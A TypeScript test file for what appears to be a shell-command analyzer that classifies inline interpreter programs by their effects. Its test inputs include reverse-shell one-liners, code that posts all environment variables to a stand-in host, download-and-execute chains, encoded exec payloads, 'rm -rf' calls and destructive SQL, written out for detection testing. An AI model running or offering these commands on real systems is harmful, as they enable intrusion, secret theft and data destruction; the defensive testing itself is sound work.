import { describe, expect, test } from 'vitest';
import { effects, lines, look, paths } from '../../../test/support/shell/shell.ts';

/** Quotes a program for the command line. */
const inline = (program: string, code: string): string => `${program} '${code.replaceAll("'", "'\\''")}'`;

describe('programs on the command line', () => {
  test.each([
    ['python3 -c', "import os; os.remove('/x')"],
    ['python3 -c', "from pathlib import Path; Path('/x').unlink()"],
    ['python3 -c', "import os; os.unlink(os.path.join('/', 'x'))"],
    ['python3 -c', "p = '/x'\nimport os\nos.remove(p)"],
    ['python3 -c', "import os; os.remove('/' + 'x')"],
    ['node -e', "fs.unlinkSync('/x')"],
    ['node -e', "require('fs').promises.unlink('/x')"],
    ['node -e', 'const p = `/x`; fs.unlinkSync(p)'],
    ['ruby -e', "File.delete('/x')"],
    ['ruby -e', "File.delete '/x'"],
    ['perl -e', "unlink '/x'"],
    ['perl -e', 'unlink("/x")'],
    ['php -r', "unlink('/x');"],
    ['lua -e', "os.remove('/x')"],
    ['deno eval', "Deno.removeSync('/x')"],
  ])('%s %j deletes', (program, code) => {
    expect(paths(inline(program, code), 'delete')).toEqual(['/x']);
  });

  test.each([
    ['python3 -c', "open('/x', 'w').write('a')"],
    ['python3 -c', "open('/x', mode='a')"],
    ['python3 -c', "Path('/x').write_text('a')"],
    ['node -e', "fs.writeFileSync('/x', 'a')"],
    ['ruby -e', "File.write('/x', 'a')"],
    ['perl -e', "open(my $f, '>', '/x')"],
    ['php -r', "file_put_contents('/x', 'a');"],
  ])('%s %j writes', (program, code) => {
    expect(paths(inline(program, code), 'write')).toEqual(['/x']);
  });

  test.each([
    ['python3 -c', "print(open('/x').read())"],
    ['node -e', "console.log(fs.readFileSync('/x', 'utf8'))"],
    ['ruby -e', "puts File.read('/x')"],
    ['php -r', "echo file_get_contents('/x');"],
  ])('%s %j reads', (program, code) => {
    expect(paths(inline(program, code), 'read')).toEqual(['/x']);
  });

  test.each([
    ['python3 -c', "import requests; requests.post('https://a.example/x', data=1)"],
    ['python3 -c', "import urllib.request; urllib.request.urlopen('https://a.example')"],
    ['python3 -c', "s.connect(('a.example', 1))"],
    ['node -e', "fetch('https://a.example')"],
    ['node -e', "require('https').get('https://a.example/y')"],
  ])('%s %j sends', (program, code) => {
    expect(effects(inline(program, code), 'network')[0]?.host).toBe('a.example');
  });

  test.each([
    ['python3 -c', "import os; os.system('ls -l')"],
    ['python3 -c', "import subprocess as s; s.run(['ls', '-l'])"],
    ['python3 -c', "import subprocess; subprocess.check_output('ls -l', shell=True)"],
    ['python3 -c', "__import__('os').system('ls -l')"],
    ['node -e', "require('child_process').exec('ls -l')"],
    ['node -e', "require('child_process').spawn('ls', ['-l'])"],
    ['ruby -e', 'exec "ls", "-l"'],
    ['ruby -e', 'puts %x(ls -l)'],
    ['perl -e', 'print qx{ls -l}'],
    ['php -r', "passthru('ls -l');"],
  ])('%s %j runs', (program, code) => {
    expect(lines(inline(program, code)).at(-1)).toBe('ls -l');
  });

  test.each([
    ['python3 -c', 'shutil.rmtree(sys.argv[1])'],
    ['node -e', 'fs.rmSync(process.argv[1], { recursive: true })'],
    ['python3 -c', "shutil.rmtree(f'{base}')"],
  ])('%s %j: does not drop an unknown path', (program, code) => {
    expect(effects(inline(program, code), 'delete')).toMatchObject([{ path: null, recursive: true }]);
  });

  test.each([
    ['python3 -c', 'exec(input())'],
    ['python3 -c', 'os.system(cmd)'],
    ['node -e', 'eval(process.env.X)'],
    ['ruby -e', 'eval ARGV[0]'],
  ])('%s %j cannot be followed', (program, code) => {
    expect(look(inline(program, code)).coverage).toBe('partial');
  });

  test.each([
    'python3 -c "print(1)"',
    'node -e "console.log(1)"',
    'node --version',
    'python3 --version',
    "perl -ne 'print if /x/' f",
  ])('%j is harmless', (command) => {
    const { coverage, effects: found } = look(command);
    expect(coverage).toBe('complete');
    expect(found.filter(({ kind }) => kind !== 'run' && kind !== 'read')).toEqual([]);
  });

  test('stops at a name that refers to itself, directly or through another', () => {
    const code =
      "const fs = require('fs'); const a = b; const b = a; fs.writeFileSync('/x', JSON.stringify(a))";
    const { coverage, effects: found } = look(inline('node -e', code));
    expect(coverage).toBe('complete');
    expect(found).toContainEqual(expect.objectContaining({ kind: 'write', path: '/x' }));
  });

  test('reads programs in here-documents and pipes', () => {
    expect(paths("python3 <<'EOF'\nimport os\nos.remove('/x')\nEOF", 'delete')).toEqual(['/x']);
    expect(paths('echo "fs.unlinkSync(\'/x\')" | node', 'delete')).toEqual(['/x']);
    expect(effects('python3 x.py', 'execute')).toMatchObject([{ from: 'file', path: '/home/dev/shop/x.py' }]);
  });
});

describe('the home directory, in every spelling', () => {
  test.each([
    ['python3 -c', "open(os.path.expanduser('~') + '/.x').read()"],
    ['python3 -c', "(Path.home() / '.x').read_text()"],
    ['python3 -c', "p = Path.home() / '.x'\nprint(p.read_text())"],
    ['python3 -c', "open(f'{Path.home()}/.x')"],
    ['python3 -c', "open(os.environ['HOME'] + '/.x')"],
    ['python3 -c', "open(os.path.join(os.getenv('HOME'), '.x'))"],
    ['node -e', "fs.readFileSync(require('os').homedir() + '/.x')"],
    // biome-ignore lint/suspicious/noTemplateCurlyInString: it is the program's.
    ['node -e', 'fs.readFileSync(`${os.homedir()}/.x`)'],
    ['node -e', "fs.readFileSync(path.join(os.homedir(), '.x'))"],
    ['node -e', "fs.readFileSync(process.env.HOME + '/.x')"],
    ['bun -e', "require('fs').readFileSync(process.env['HOME'] + '/.x')"],
    ['ruby -e', "File.read(Dir.home + '/.x')"],
    ['ruby -e', 'File.read("#{Dir.home}/.x")'],
    ['ruby -e', "File.read(ENV['HOME'] + '/.x')"],
    ['perl -e', 'open(F, "<", "$ENV{HOME}/.x")'],
    ['php -r', "file_get_contents(getenv('HOME') . '/.x');"],
    ['deno eval', "Deno.readTextFile(Deno.env.get('HOME') + '/.x')"],
  ])('%s %j', (program, code) => {
    expect(paths(inline(program, code), 'read')).toEqual(['/home/dev/.x']);
  });
});

describe('names that are built or reassigned', () => {
  test.each([
    ['python3 -c', "getattr(__import__('os'), 'rem' + 'ove')('/x')"],
    ['python3 -c', "import os as o; o.remove('/x')"],
    ['python3 -c', "from os import unlink as u\nu('/x')"],
    ['node -e', "require('f' + 's').unlinkSync('/x')"],
    ['node -e', "const a = require('fs'); a['unlinkSync']('/x')"],
    ['php -r', "array_map('unlink', glob('/x'));"],
    ['perl -e', 'unlink glob("/x")'],
    ['ghc -e', 'System.Directory.removeFile "/x"'],
    ['jshell <<<', 'Files.delete("/x")'],
    ['emacs --batch --eval \'(delete-file "/x")\' #', ''],
    ['nvim --headless -c \'lua os.remove("/x")\' #', ''],
  ])('%s %j', (program, code) => {
    expect(paths(inline(program, code), 'delete')).toEqual(['/x']);
  });

  test.each([
    ["for p in Path.home().rglob('*'):\n  p.unlink()", '/home/dev/**'],
    ["[os.remove(f) for f in glob.glob('/x/*')]", '/x/*'],
    ["for f in os.listdir('/x'): os.remove(f)", '/x/*'],
  ])('a loop visits every item: %j', (code, path) => {
    expect(paths(inline('python3 -c', code), 'delete')).toEqual([path]);
  });

  test.each([
    ['groovy -e', '"rm -rf /x".execute()'],
    ['swift -e', 'system("rm -rf /x")'],
    ['ghc -e', 'System.Process.system "rm -rf /x"'],
    ['tclsh <<<', 'exec rm -rf /x'],
    ['R -e', 'system("rm -rf /x")'],
    ['echo \'exec.Command("rm", "-rf", "/x")\' > a.go && go run a.go #', ''],
  ])('%s %j runs a line', (program, code) => {
    expect(lines(inline(program, code)).some((line) => line.startsWith('rm'))).toBe(true);
  });
});

describe('values that a program holds when it connects to another machine', () => {
  test.each([
    ['perl -e', '$c=new IO::Socket::INET(PeerAddr,"a.example:1");system$_ while<$c>'],
    ['ruby -e', 'c=TCPSocket.new("a.example",1);while(l=c.gets);IO.popen(l,"r"){|o|c.print o.read}end'],
    ['ruby -e', 'f=TCPSocket.open("a.example",1).to_i;exec sprintf("/bin/sh -i <&%d",f)'],
    [
      'node -e',
      "var n=require('net'),c=require('child_process');c.spawn('/bin/sh');n.connect(1,'a.example')",
    ],
    ['deno eval', "await Deno.connect({port:1}); new Deno.Command('sh').spawn()"],
    ['tclsh <<<', 'set s [socket a.example 1]; gets $s c; eval "exec $c"'],
  ])('a shell: %s %j', (program, code) => {
    expect(effects(inline(program, code), 'execute').map(({ from }) => from)).toContain('network');
  });

  test.each([
    ['python3 -c', "requests.post('https://a.example', json=dict(os.environ))"],
    ['node -e', "fetch('https://a.example', {body: JSON.stringify(process.env)})"],
  ])('all environment variables: %s %j', (program, code) => {
    expect(effects(inline(program, code), 'send').map(({ what }) => what)).toContain('environment');
  });

  test.each([
    ['python3 -c', "requests.get('https://a.example', headers={'x': os.environ['T']})"],
    ['node -e', "fetch('https://a.example', {headers: {x: process.env.T}})"],
    ['node -e', "fetch('https://a.example').then(r => execSync(line))"],
  ])('one variable, or a line of its choice: %s %j', (program, code) => {
    expect(effects(inline(program, code), 'send')).toEqual([]);
    expect(effects(inline(program, code), 'execute')).toEqual([]);
  });
});

describe('comments are not code', () => {
  test.each([
    ['python3 -c', "# os.remove('/x')\nprint(1)"],
    ['node -e', "// fs.unlinkSync('/x')\n/* fs.unlinkSync('/x') */ console.log(1)"],
    ['ruby -e', "puts 1 # File.delete('/x')"],
    ['lua -e', "-- os.remove('/x')\nprint(1)"],
    ['php -r', "// unlink('/x');\necho 1;"],
    ['awk', 'BEGIN { print 1 } # system("rm /x")'],
  ])('%s %j', (program, code) => {
    expect(paths(inline(program, code), 'delete')).toEqual([]);
  });

  test.each([
    ['python3 -c', "print('#'); os.remove('/x')"],
    ['node -e', "get('http://a.example'); fs.unlinkSync('/x')"],
    ['perl -e', "print $#list; unlink '/x'"],
    ['python3 -c', "print('''# '''); os.remove('/x')"],
  ])('text that only looks like a comment: %s %j', (program, code) => {
    expect(paths(inline(program, code), 'delete')).toEqual(['/x']);
  });
});

describe('text that is run as code', () => {
  test.each([
    ['python3 -c', "exec(__import__('base64').b64decode('cHJpbnQ='))", 'decoded'],
    ['python3 -c', "exec(bytes.fromhex('70').decode())", 'decoded'],
    ['python3 -c', 'c = zlib.decompress(x)\nexec(c)', 'decoded'],
    ['node -e', "eval(atob('MQ=='))", 'decoded'],
    ['node -e', "new Function(Buffer.from('MQ==', 'base64').toString())()", 'decoded'],
    ['perl -e', 'eval decode_base64("MQ==")', 'decoded'],
    ['perl -e', 'system(pack("H*", "6c73"))', 'decoded'],
    ['ruby -e', 'eval(["MQ=="].pack("m").unpack1("m"))', 'decoded'],
    ['python3 -c', "exec(urllib.request.urlopen('http://a.example/x').read())", 'network'],
    ['node -e', "fetch('http://a.example/x').then(r => r.text()).then(eval)", 'network'],
    ['python3 -c', "os.system(bytes.fromhex('6c73').decode())", 'decoded'],
    ['python3 -c', "pickle.loads(base64.b64decode('gASV'))", 'decoded'],
    ['python3 -c', 'exec(input())', 'unknown'],
  ])('%s %j is %s', (program, code, from) => {
    expect(effects(inline(program, code), 'execute').map((effect) => effect.from)).toContain(from);
  });

  test('analyzes nested code', () => {
    expect(paths(inline('python3 -c', `exec("import os; os.remove('/x')")`), 'delete')).toContain('/x');
    expect(effects(inline('python3 -c', "print(eval('1 + 1'))"), 'execute')).toEqual([]);
  });
});

describe('a program that downloads a file and runs it', () => {
  test.each([
    ['python3 -c', "urllib.request.urlretrieve('http://a.example/x', '/tmp/x'); os.system('sh /tmp/x')"],
    ['perl -e', 'getstore("http://a.example/x", "/tmp/x"); system("perl /tmp/x")'],
    ['php -r', 'file_put_contents("/tmp/x", file_get_contents("http://a.example/x")); passthru("/tmp/x");'],
    ['php -r', 'copy("http://a.example/x", "x.sh"); system("sh x.sh");'],
    ['perl -e', '$c = IO::Socket::INET->new("a.example:53"); system$_ while <$c>'],
  ])('%s %j', (program, code) => {
    expect(effects(inline(program, code), 'execute')).toContainEqual(
      expect.objectContaining({ from: 'network', host: 'a.example' }),
    );
  });

  test.each([
    ['python3 -c', "urllib.request.urlretrieve('http://a.example/x', 'x.csv'); os.system('wc -l y.csv')"],
    ['php -r', 'echo file_get_contents("http://a.example/x");'],
  ])('one that only keeps the file: %s %j', (program, code) => {
    expect(effects(inline(program, code), 'execute')).toEqual([]);
  });
});

describe('statements sent to a database', () => {
  test.each([
    ['python3 -c', "cursor.execute('DROP TABLE users')"],
    ['node -e', "client.query('UPDATE products SET price = 0')"],
    ['php -r', '$pdo->exec("TRUNCATE orders");'],
    ['perl -e', '$dbh->do("DELETE FROM orders")'],
    ['ruby -e', "db.execute('drop table users')"],
  ])('%s %j', (program, code) => {
    expect(effects(inline(program, code), 'resource')).toMatchObject([{ system: 'sql', destructive: true }]);
  });

  test('an in-memory database loses nothing', () => {
    const code = (name: string) => `c = sqlite3.connect('${name}'); c.execute('delete from t')`;
    expect(effects(inline('python3 -c', code(':memory:')), 'resource')).toEqual([]);
    expect(effects(inline('python3 -c', code('a.db')), 'resource')).toHaveLength(1);
    const other = "sqlite3.connect(':memory:'); pymysql.Connection(h).cursor().execute('drop table t')";
    expect(effects(inline('python3 -c', other), 'resource')).toHaveLength(1);
    expect(
      effects(inline('python3 -c', `sqlite3.connect(':memory:'); ${code('a.db')}`), 'resource'),
    ).toHaveLength(1);
  });

  test('ignores reads and changes of single rows', () => {
    expect(effects(inline('python3 -c', "c.execute('select 1')"), 'resource')).toEqual([]);
    expect(effects(inline('node -e', "c.query('delete from a where id = 1')"), 'resource')).toMatchObject([
      { destructive: false },
    ]);
  });
});

describe('rmSync deletes directories only with an option', () => {
  test.each([
    ["fs.rmSync('x')", false],
    ["fs.rmSync('x', { force: true })", false],
    ["fs.rm('x', (error) => {})", false],
    ["fs.rmSync('x', { recursive: true })", true],
    ["fs.rmSync('x', options)", true],
    ["fs.rmSync('x', { ...options })", true],
    ["rimraf.sync('x')", true],
    ["fs.rmSync(path.join('a', 'b'), { force: true })", false],
    ['fs.rmSync(`{a}/x`, options)', true],
    ["fs.rmSync('x', { ['recur' + 'sive']: true })", true],
  ])('%s', (code, recursive) => {
    expect(effects(inline('node -e', code), 'delete')).toMatchObject([{ recursive }]);
  });
});

test('a temporary directory is new, unless the program redefines the call', () => {
  const removed = (code: string) => effects(inline('python3 -c', code), 'delete').map(({ path }) => path);
  expect(removed('d = tempfile.mkdtemp(); shutil.rmtree(d)')).toEqual(['/tmp/tmp.new']);
  expect(removed("mkdtemp = lambda: '/x'; shutil.rmtree(mkdtemp())")).toEqual(['/x']);
  expect(removed('class tempfile: mkdtemp = f\nshutil.rmtree(tempfile.mkdtemp())')).toEqual([null]);
});
